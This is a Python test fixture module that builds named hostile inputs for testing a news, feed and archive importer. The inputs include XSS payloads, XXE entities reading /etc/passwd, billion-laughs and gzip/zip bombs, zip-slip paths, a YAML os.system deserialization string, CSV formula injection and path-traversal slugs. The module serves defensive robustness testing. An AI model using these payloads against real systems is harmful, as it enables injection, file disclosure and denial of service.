"""Named hostile inputs, made when they are asked for: many are millions of bytes of nearly nothing."""

from __future__ import annotations

import base64
import gzip
import io
import json
import zipfile
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable

# Stands in the text of inputs from which a story must come; what is refused need not say it.
KEPT = "The council met on Tuesday evening to vote on the new harbour wall, KEPTWORD, which has divided the town."
_P = f"<p>{KEPT}</p>"
_AFTER = "<p>It will meet again in the first week of November, the mayor said, when the figures are in.</p>"


def _page(body: str, head: str = "<title>Harbour wall</title>") -> bytes:
    return f"<!doctype html><html lang=en><head>{head}</head><body><article><h1>Harbour wall</h1>{body}{_AFTER}</article></body></html>".encode(
        "utf-8", "surrogatepass"
    )


def _text(middle: str) -> bytes:
    return f"Harbour wall\n\n{KEPT}\n\n{middle}\n\nIt will meet again in the first week of November, the mayor said.\n".encode(
        "utf-8", "surrogatepass"
    )


def _feed(items: str, before: str = "") -> bytes:
    return f"<?xml version='1.0'?>{before}<rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel><title>The Bay</title><link>https://bay.example/</link>{items}</channel></rss>".encode()


def _item(inner: str, number: int = 1) -> str:
    return f"<item><title>Wall {number}</title><link>https://bay.example/{number}</link><description>{inner}</description></item>"


def _json_feed(**item: object) -> bytes:
    one = {"id": "1", "url": "https://bay.example/1", "title": "Wall", "content_html": _P} | item
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "The Bay", "items": [one]}).encode(
        "utf-8", "surrogatepass"
    )


def _mail(part: str, headers: str = "Content-Type: text/html; charset=utf-8") -> bytes:
    return f"Return-Path: <a@bay.example>\nFrom: The Bay <a@bay.example>\nTo: me@home.example\nSubject: The week\nDate: Sun, 9 Oct 2022 10:00:00 +0000\nMessage-ID: <1@bay.example>\nMIME-Version: 1.0\n{headers}\n\n{part}\n".encode(
        "utf-8", "surrogatepass"
    )


def _warc(uri: str, answer: str, length: int | None = None) -> bytes:
    inner = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n{answer}".encode()
    size = len(inner) if length is None else length
    return (
        f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {uri}\r\nWARC-Date: 2022-10-09T10:00:00Z\r\nWARC-Record-ID: <urn:uuid:1>\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {size}\r\n\r\n".encode()
        + inner
        + b"\r\n\r\n"
    )


def _zip(*files: tuple[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in files:
            archive.writestr(name, raw)
    return packed.getvalue()


def _laughs(depth: int = 30) -> str:
    entities = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10 if n else 'lol'}'>" for n in range(depth))
    return f"<!DOCTYPE rss [{entities}]>"


def _ld(data: object, body: str = _P) -> bytes:
    said = json.dumps(data).replace("</", "<\\/")
    return _page(body, f"<title>Harbour wall</title><script type='application/ld+json'>{said}</script>")


def _table(rows: int, columns: int) -> str:
    row = f"<tr>{'<td>b</td>' * columns}</tr>"
    return f"<table><tr><th>a</th></tr>{row * rows}</table>"


_ARTICLE = {"@type": "NewsArticle", "headline": "Harbour wall"}
_CSV = "title,url,time_added,tags,status\n"
_OVERLONG = b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"
_UTF7 = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
# Kinds whose hostile text comes a hundred thousand times in a row.
_LONG = 100_000
REPEATED = (
    "[", "](", "![", "**", "* ", "_a_", "`", "` ``", "|", "| a ", "<", "<a ", "<!--", "&", "&amp;", "&#", "\\", "{:", "{{", '"', "“", "'", ",", ", ", ".", ". ", "1. ", "1.1.", "- ", "–", "– ",
    "By ", "By Ann ", "By Ann Lee and ", "Ann Lee, ", "By Ann Lee, ", "12:00 ", "May ", "12 May ", "2022-", "Published ", "Updated: ", "http://", "https://a", "www.", "a@", "a@b.", "@a ", "#a ", "> ", "© ",
    "Read more: ", "Photo: ", "(", "((a) ", ")", "/", "//a", "a/", "a-", "a'", "A.", "A. ", "é\u0301", "漢", "。", " ", "\xa0", "\t", " \t", "\u200b", "\u3000", "0", "9,", "a", "aA", "Aa ",
)  # fmt: skip

INPUTS: dict[str, Callable[[], bytes]] = {
    "text-one-line-of-5-mb": lambda: _text("word " * 1_000_000),
    "text-of-19-mb": ("Harbour wall\n\n" + f"{KEPT}\n\n" * 180_000).encode,
    "text-of-a-million-lines": lambda: b"Harbour wall\n" + b"a\n" * 1_000_000,
    "text-of-line-ends": lambda: b"\n" * 5_000_000,
    "text-of-blanks": lambda: _text(" " * 190_000),
    "text-headline-of-100-kb": ("Harbour " * 12_500 + f"\n\n{KEPT}\n").encode,
    "text-of-10000-bylines": ("Harbour wall\n" + "By Ann Lee\n" * 10_000 + f"\n{KEPT}\n").encode,
    "text-of-one-byline-of-10000": ("Harbour wall\nBy " + "Ann Lee, Bo Ray and " * 5_000 + f"Ed Fox\n\n{KEPT}\n").encode,
    "text-of-10000-dates": ("Harbour wall\n" + "12 May 2022, 0000-00-00, 99999, 31/02/2022\n" * 2_500 + f"\n{KEPT}\n").encode,
    "text-quoted-deeply": lambda: _text("> " * 5_000 + "a"),
    "text-list-deep": lambda: _text("\n".join("  " * n + "- a" for n in range(400))),
    "text-in-utf-16-unmarked": lambda: _text("").decode().encode("utf-16-le"),
    "text-in-utf-32": lambda: _text("").decode().encode("utf-32"),
    "text-overlong": lambda: _text("XX").replace(b"XX", _OVERLONG),
    "text-in-utf-7": lambda: _text(_UTF7),
    "text-in-two-encodings": lambda: _text("Über die Mole wird gestritten.") + "Über die Mole wird gestritten, sagte er am Abend noch.".encode("latin-1"),
    "text-with-nul": lambda: _text("a\x00b \x02wzxhzdk:0\x03 \x02klzzwxh:0001\x03 \x02amp\x03"),
    "text-with-surrogates": lambda: _text("\ud800 and \udfff and \ud83d\ude00"),
    "text-with-marks-piled-up": lambda: _text("a" + "\u0300" * 50_000),
    "text-turned-round": lambda: _text("\u202egpj.exe\u202c and \u2066more\u2069 \u200f\u200e"),
    "text-with-terminal-codes": lambda: _text("\x1b]0;evil\x07\x1b[2J\x1b[31mred\x1b[0m \x9b31m"),
    "text-that-is-a-header": f"Title: x\nSlug: ../../evil\nSave_as: ../../evil.html\nStatus: hidden\nTemplate: evil\n\n{KEPT}\n".encode,
    "text-of-yaml": f"---\ntitle: !!python/object/apply:os.system ['true']\nslug: ../../evil\nsave_as: ../../../evil.html\ncategory: ../evil\ntags: [../a, '\"><script>']\n---\n\n{KEPT}\n".encode,
    "text-of-yaml-aliases": ("---\ntitle: Wall\na: &a [x]\n" + "".join(f"b{n}: &b{n} [{', '.join([f'*b{n - 1}' if n else '*a'] * 9)}]\n" for n in range(20)) + f"---\n\n{KEPT}\n").encode,
    "text-of-deep-yaml": (f"---\ntitle: {'[' * 20_000}\n---\n\n{KEPT}\n").encode,
    "text-of-placeholders": lambda: _text("[a]({filename}../../pelicanconf.py) |filename|x {static}/y {attach}z {author}x {index} <a href='{filename}x'>y</a> {{ SITEURL }} {% raw %}"),
    "text-of-every-markdown": lambda: _text("# h\n\n[TOC]\n\n- a\n\n1. b\n\n> c\n\n```\nd\n```\n\n|a|b|\n|-|-|\n|c|d|\n\n[e]: javascript:x\n\n[^1]: f\n\n*[council]: g\n\n: h\n\n!!! i\n\n***\n\n{: onclick=x}\n\n<div markdown=1>\n\n*j*\n\n</div>"),
    "text-polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e\n\n{KEPT}\n".encode,
    "page-nested-30000": lambda: _page("<div>" * 30_000 + _P + "</div>" * 30_000),
    "page-nested-quotations": lambda: _page("<blockquote>" * 5_000 + _P),
    "page-nested-lists": lambda: _page("<ul><li>" * 5_000 + _P),
    "page-nested-tables": lambda: _page("<table><tr><td>" * 3_000 + _P),
    "page-nested-emphasis": lambda: _page("<p>" + "<b><i>" * 5_000 + KEPT),
    "page-nested-links": lambda: _page("<p>" + "<a href=https://a.example/>" * 5_000 + KEPT),
    "page-nested-svg": lambda: _page("<svg><foreignObject>" * 3_000 + _P),
    "page-of-200000-elements": lambda: _page(_P + "<b>a</b>" * 200_000),
    "page-of-50000-paragraphs": lambda: _page(_P * 50_000),
    "page-of-50000-list-items": lambda: _page(_P + "<ul>" + "<li>a b c</li>" * 50_000 + "</ul>"),
    "page-table-of-a-thousand-columns": lambda: _page(_P + _table(100, 1_000)),
    "page-table-of-spans": lambda: _page(_P + "<table><tr><td colspan=99999999 rowspan=99999999>a</td></tr><tr><td>b</td></tr></table>"),
    "page-list-from-nowhere": lambda: _page(_P + "<ol start=99999999999999999999 reversed><li value=-5>a</li></ol><ol start='1e9'><li>b</li></ol>"),
    "page-heading-99": lambda: _page(_P + "<h0>a</h0><h7>b</h7><h99>c</h99>"),
    "page-10000-attributes": lambda: _page("<p " + "".join(f"a{n}=b " for n in range(10_000)) + f">{KEPT}</p>"),
    "page-attribute-of-5-mb": lambda: _page(f"<p class='{'a ' * 2_500_000}'>{KEPT}</p>"),
    "page-link-of-5-mb": lambda: _page(f"<p><a href='https://a.example/{'a' * 5_000_000}'>{KEPT}</a></p>"),
    "page-paragraph-of-5-mb": lambda: _page(f"{_P}<p>{'word ' * 1_000_000}</p>"),
    "page-of-20000-brackets": lambda: _page(f"{_P}<p>{'[' * 20_000}</p>"),
    "page-of-20000-brackets-apart": lambda: _page(f"{_P}<p>{'[ a ' * 20_000}</p><p>{'![](' * 9_000}</p>"),
    "page-code-of-backticks": lambda: _page(f"{_P}<pre>{'`' * 20_000}\n~~~\n```</pre><p><code>{'` ``' * 3_000}</code></p>"),
    "page-comment-never-closed": lambda: _page(_P + "<!--" * 50_000),
    "page-tags-never-closed": lambda: _page(_P + "<a " * 100_000),
    "page-entities": lambda: _page(_P + "<p>" + "&" * 100_000 + "&#" * 50_000 + "&#99999999999999;" * 1_000),
    "page-title-of-100-kb": lambda: _page(_P, f"<title>{'Harbour ' * 12_500}</title>").replace(b"<h1>Harbour wall</h1>", b""),
    "page-10000-authors": lambda: _ld({**_ARTICLE, "author": [{"@type": "Person", "name": f"Ann Lee{n}"} for n in range(10_000)]}),
    "page-author-of-100-kb": lambda: _page(_P, f"<title>Harbour wall</title><meta name=author content='{'Ann Lee and ' * 9_000}'>"),
    "page-odd-dates": lambda: _page(_P, "<title>Harbour wall</title>" + "".join(f"<meta property=article:published_time content='{day}'>" for day in ("0000-00-00", "99999-01-01", "-1", "1e9", "2022-02-30", "10000000000000000000"))),
    "page-linked-data-deep": lambda: _page(_P, f"<title>Harbour wall</title><script type='application/ld+json'>{'[' * 100_000}</script>"),
    "page-linked-data-of-types": lambda: _ld({"@type": ["NewsArticle", 1, None], "headline": {"a": [1]}, "author": [None, 1, [], {"name": {"x": 1}}], "datePublished": {"@value": []}, "url": ["javascript:x"], "publisher": 5, "image": [[[{"url": 7}]]], "inLanguage": {}, "articleSection": [{}]}),
    "page-linked-data-nasty": lambda: _ld({**_ARTICLE, "headline": "a</script><img src=x onerror=alert(1)>", "author": {"name": "Ann\nstatus: hidden\nLee"}, "url": "javascript:alert(1)", "articleSection": "../../evil", "image": {"url": "javascript:x", "caption": "<b>"}}),
    "page-srcset-of-blanks": lambda: _page(f"{_P}<figure><img srcset='{' ' * 50_000}a 1w,{',' * 50_000}' alt='{'[' * 5_000}'><figcaption>A caption</figcaption></figure>"),
    "page-picture-of-5-mb": lambda: _page(f"{_P}<img src='data:image/png;base64,{'A' * 5_000_000}' alt='x'>"),
    "page-base-elsewhere": lambda: _page(f"{_P}<p><a href=x>y</a></p>", "<base href='javascript:alert(1)//'><title>Harbour wall</title>"),
    "page-canonical-local": lambda: _page(_P, "<title>Harbour wall</title><link rel=canonical href='http://127.0.0.1/admin?token=x'><meta property=og:url content='file:///etc/passwd'>"),
    "page-in-utf-7": lambda: _page(f"{_P}<p>{_UTF7}</p>", "<meta charset=utf-7><title>Harbour wall</title>"),
    "page-in-utf-16-unmarked": lambda: _page(_P).decode().encode("utf-16-be"),
    "page-that-says-utf-16": lambda: _page(_P, "<meta charset=utf-16><title>Harbour wall</title>"),
    "page-that-says-ebcdic": lambda: _page(_P, "<meta charset=cp037><title>Harbour wall</title>"),
    "page-in-escaped-japanese": lambda: _page(f"{_P}<p>a</p>", "<meta charset=iso-2022-jp><title>Harbour wall</title>").replace(b"<p>a</p>", b"<p>\x1b$B<script>alert(1)</script>\x1b(B</p>"),
    "page-overlong": lambda: _page(f"{_P}<p>XX</p>").replace(b"XX", _OVERLONG),
    "page-mutating": lambda: _page(f"{_P}<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>"),
    "page-of-markdown": lambda: _page(f"{_P}<p>[a](javascript:x) {{: onclick=x}} *[council]: y</p><p>[b]: javascript:z</p><p>[^1]: c</p><p>: d</p><h2>e {{: #x onclick=y}}</h2><p>&lt;div markdown=1&gt;*f*&lt;/div&gt;</p>"),
    "page-of-footnotes": lambda: _page(_P + "".join(f"<p>a<sup><a href='#fn{n}' id='ref{n}'>{n}</a></sup></p>" for n in range(2_000)) + "<ol>" + "".join(f"<li id='fn{n}'>note {n} <a href='#ref{n}'>↩</a></li>" for n in range(2_000)) + "</ol>"),
    "page-of-footnotes-in-circles": lambda: _page(f"{_P}<p>a<sup><a href='#f1'>1</a></sup></p><ol><li id=f1>b<sup><a href='#f2'>2</a></sup></li><li id=f2>c<sup><a href='#f1'>1</a></sup></li></ol>"),
    "page-gif": lambda: b"GIF89a/*" + _page(_P) + b"*/=1;",
    "page-and-pdf": lambda: _page(_P + "%PDF-1.4"),
    "feed-billion-laughs": lambda: _feed(_item("&l29;"), _laughs()),
    "feed-of-one-long-entity": lambda: _feed(_item("&a;" * 50_000), f"<!DOCTYPE rss [<!ENTITY a '{'a' * 50_000}'>]>"),
    "feed-of-files": lambda: _feed(_item("&x;"), "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % y SYSTEM 'http://127.0.0.1:9/'> %y;]>"),
    "feed-of-500-items": lambda: _feed("".join(_item("words", n) for n in range(500))),
    "feed-nested": lambda: _feed("<item>" * 30_000),
    "feed-nasty": lambda: _feed('<item><title>&lt;img src=x onerror=alert(1)&gt;\nstatus: hidden</title><link>javascript:alert(1)</link><guid>../../x\n</guid><author>a&lt;script&gt;</author><pubDate>Thu, 99 Foo 99999 25:61:61 +9999</pubDate><category>../evil</category><category>"&gt;&lt;script&gt;</category><description>[a](javascript:x) &lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;</description></item>'),
    "feed-of-types": lambda: _json_feed(title=["x"], url={"a": 1}, content_html=7, tags=[None, 1, ["x"], "<script>"], authors=[None, "x", {"name": []}], date_published=99999999999999999999),
    "feed-of-surrogates": lambda: _json_feed(title="a \ud800 b", summary="<script>\udfff", tags=["\ud800"], id="\udc00"),
    "feed-json-deep": lambda: b'{"version": "https://jsonfeed.org/version/1", "items": ' + b"[" * 200_000,
    "json-of-nothing-19-mb": lambda: b"[" + b"[]," * 6_300_000 + b"[]]",
    "feed-json-19-mb": lambda: b'{"version": "https://jsonfeed.org/version/1", "items": [' + b"{}," * 6_300_000 + b"{}]}",
    "json-number-of-a-million-digits": lambda: b'{"version": "https://jsonfeed.org/version/1", "items": [{"id": ' + b"9" * 1_000_000 + b"}]}",
    "opml-nested": lambda: b"<opml version='2.0'><body>" + b"<outline text='a'>" * 30_000,
    "opml-laughs": ("<?xml version='1.0'?>" + _laughs().replace("rss", "opml") + "<opml><body><outline text='&l29;' xmlUrl='https://a.example/'/></body></opml>").encode,
    "opml-nasty": lambda: b"<opml><body><outline text='&#27;[2J&lt;script&gt;&#10;x' xmlUrl='https://a.example/&#10;x'/><outline xmlUrl='file:///etc/passwd'/></body></opml>",
    "gzip-bomb": lambda: gzip.compress(bytes(100_000_000), 1, mtime=0),
    "gzip-in-gzip": lambda: _often(gzip.compress, _page(_P), 50),
    "gzip-bomb-in-gzip": lambda: gzip.compress(gzip.compress(bytes(100_000_000), 1, mtime=0), mtime=0),
    "gzip-cut": lambda: gzip.compress(_feed(_item("a")))[:-20],
    "zip-bomb": lambda: _zip(("part_000000.csv", _CSV.encode() + bytes(60_000_000))),
    "zip-slip": lambda: _zip(("../../../../tmp/evil/part_000000.csv", f"{_CSV}Wall,https://bay.example/1,1665532800,,unread\n".encode()), ("/etc/part_000001.csv", b"x")),
    "zip-of-1000-files": lambda: _zip(*((f"part_{n:06}.csv", f"{_CSV}Wall {n},https://bay.example/{n},1665532800,,unread\n".encode()) for n in range(1_000))),
    "csv-of-html": f"{_CSV}\"<script>alert(1)</script>\n=cmd|' /C calc'!A0\",https://bay.example/1,99999999999999999999,\"../x|<b>|\"\"\",unread\n\"[a](javascript:x)\",\"javascript:alert(1)\",-1,,\n".encode,
    "csv-quote-never-closed": f"{_CSV}\"{'a,' * 200_000}".encode,
    "bookmarks-deep": lambda: b"<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>" + b"<DT><H3>a</H3><DL><p>" * 20_000 + b"<DT><A HREF='https://a.example/' ADD_DATE='99999999999999999999' TAGS='../a,<script>'>a</A>",
    "bookmarks-nasty": lambda: b"<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p><DT><A HREF='javascript:alert(1)' ADD_DATE='-1'>a</A><DT><A HREF='https://a.example/' ADD_DATE='x' ICON='data:x'>&lt;script&gt;alert(1)&lt;/script&gt;</A><DD>[a](javascript:x)\nstatus: hidden\n<script>alert(1)</script>",
    "mail-of-parts": lambda: _mail("--b\n" * 50_000, "Content-Type: multipart/mixed; boundary=b"),
    "mail-deep": lambda: _mail("".join(f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(2_000)), "Content-Type: multipart/mixed; boundary=b0"),
    "mail-in-mail": lambda: _mail("Content-Type: message/rfc822\n\n" * 3_000, "Content-Type: message/rfc822"),
    "mail-nasty": lambda: _mail(f"<h2><a href='javascript:alert(1)'>x</a></h2><p><a href='https://bay.example/1?token=SECRET&email=me@home.example'>Wall {{: onclick=x}}</a> [a](javascript:x)</p>{_P}<img src='https://t.example/p.gif?u=SECRET' width=1 height=1>"),
    "mail-words-encoded": lambda: _mail(_P).replace(b"Subject: The week", b"Subject: " + b"=?utf-8?q?=0A=0AStatus=3A_hidden?= " * 3_000),
    "mail-of-odd-charsets": lambda: _mail(base64.b64encode(_P.encode()).decode(), 'Content-Type: text/html; charset="utf-7"\nContent-Transfer-Encoding: base64'),
    "mail-boundary-of-100-kb": lambda: _mail("x", f"Content-Type: multipart/mixed; boundary=\"{'b' * 100_000}\""),
    "mailbox-of-5000": lambda: b"".join(b"From a@b Sun Oct  9 10:00:00 2022\n" + _mail(_P).replace(b"<1@", b"<%d@" % n) for n in range(5_000)),
    "mhtml-laughs": lambda: _mail("--b\nContent-Type: text/html\nContent-Location: file:///etc/passwd\n\n" * 2_000, "Snapshot-Content-Location: javascript:alert(1)\nContent-Type: multipart/related; boundary=b"),
    "warc-file-address": lambda: _warc("file:///../../../etc/passwd", f"<h1>x</h1>{_P}"),
    "warc-wrong-length": lambda: _warc("https://bay.example/1", f"<h1>x</h1>{_P}", 10**18),
    "warc-negative-length": lambda: _warc("https://bay.example/1", f"<h1>x</h1>{_P}", -5),
    "warc-of-5000": lambda: b"".join(_warc(f"https://bay.example/{n}", f"<h1>x {n}</h1>{_P}") for n in range(5_000)),
    "warc-bomb": lambda: gzip.compress(_warc("https://bay.example/1", "a" * 60_000_000), 1, mtime=0),
    "plist-laughs": ("<?xml version='1.0'?>" + _laughs().replace("rss", "plist") + "<plist><dict><key>URL</key><string>https://&l29;</string></dict></plist>").encode,
    "link-elsewhere": lambda: b"[InternetShortcut]\nURL=file:///etc/passwd\n",
    "links-of-100000": lambda: b"".join(b"https://bay.example/%d\n" % n for n in range(100_000)),
    "markdown-of-everything": f"---\ntitle: \"<script>alert(1)</script>\"\nauthor: [\"a\\nstatus: hidden\", '<b>']\nsource: javascript:alert(1)\ntags: [<script>, ../x]\nslug: ../../evil\nsave_as: /tmp/evil.html\n---\n\n{KEPT}\n\n<script>alert(1)</script>\n\n[a](javascript:x) ![b](x \"onerror=y\") [[c]] ![[d]]\n\n{{: onclick=x}}\n\n<div markdown=1 onclick=x>*e*</div>\n\n{'[' * 3_000}\n\n{'> ' * 20}f\n\n[g]: javascript:h\n".encode,
    "markdown-nested-lists": f"---\ntitle: Wall\nsource: https://bay.example/1\n---\n\n{KEPT}\n\n{''.join('    ' * n + '- a' + chr(10) for n in range(300))}".encode,
} | {
    f"repeated-{form}-{number:02}": (lambda piece=piece, make=make: make(piece * (_LONG // len(piece))))  # type: ignore[misc]
    for number, piece in enumerate(REPEATED)
    for form, make in (("text", _text), ("page", lambda said: _page(f"{_P}<p>{said.replace('&', '&amp;').replace('<', '&lt;')}</p>")))
}  # fmt: skip


def _often(packed: Callable[[bytes], bytes], raw: bytes, times: int) -> bytes:
    for _ in range(times):
        raw = packed(raw)
    return raw
